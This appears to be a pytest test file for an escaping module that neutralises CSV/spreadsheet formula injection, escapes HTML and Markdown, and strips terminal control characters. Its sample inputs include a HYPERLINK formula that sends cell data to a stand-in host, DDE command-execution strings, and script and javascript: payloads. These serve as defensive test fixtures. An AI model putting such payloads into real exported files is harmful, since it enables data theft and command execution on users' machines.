"""Text from ledgers and OSM stays data: spreadsheet cells, Markdown and the terminal."""

from __future__ import annotations

import pandas as pd
import pytest

from skillcircle._escaping import (
    markdown_text,
    neutralise_cell,
    neutralise_frame,
    plain_text,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_a_leading_quote(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "1,234", 5, -2.5, None, "越秀区", "a=b"])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert neutralise_cell(value) == value


def test_a_frame_keeps_numbers_and_neutralises_text() -> None:
    frame = pd.DataFrame({"name": FORMULAS[:2], "population": [-1.0, 2.0], "=x": ["a", "b"]})
    out = neutralise_frame(frame)
    assert out["name"].tolist() == ["'" + t for t in FORMULAS[:2]]
    assert out["population"].tolist() == [-1.0, 2.0]
    assert list(out.columns) == ["name", "population", "'=x"]
    assert frame["name"].tolist() == FORMULAS[:2]  # the input is not modified


def test_markdown_escapes_html_and_table_syntax() -> None:
    assert markdown_text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown_text("a|b") == "a\\|b"
    assert markdown_text("[x](javascript:alert(1))") == "\\[x\\](javascript:alert(1))"
    assert markdown_text("line1\nline2") == "line1 line2"
    assert markdown_text(float("nan")) == ""


def test_plain_text_defuses_ansi_and_control_characters() -> None:
    assert plain_text("\x1b[2J\x1b[31m红\x07") == "?[2J?[31m红?"
    assert plain_text("流花街道 [/x] :thumbs_up:") == "流花街道 [/x] :thumbs_up:"


def test_markdown_keeps_apostrophes_readable() -> None:
    # the entity's "#" must not be backslash-escaped, or viewers show "&#x27;" literally
    assert markdown_text("O'Brien") == "O&#x27;Brien"
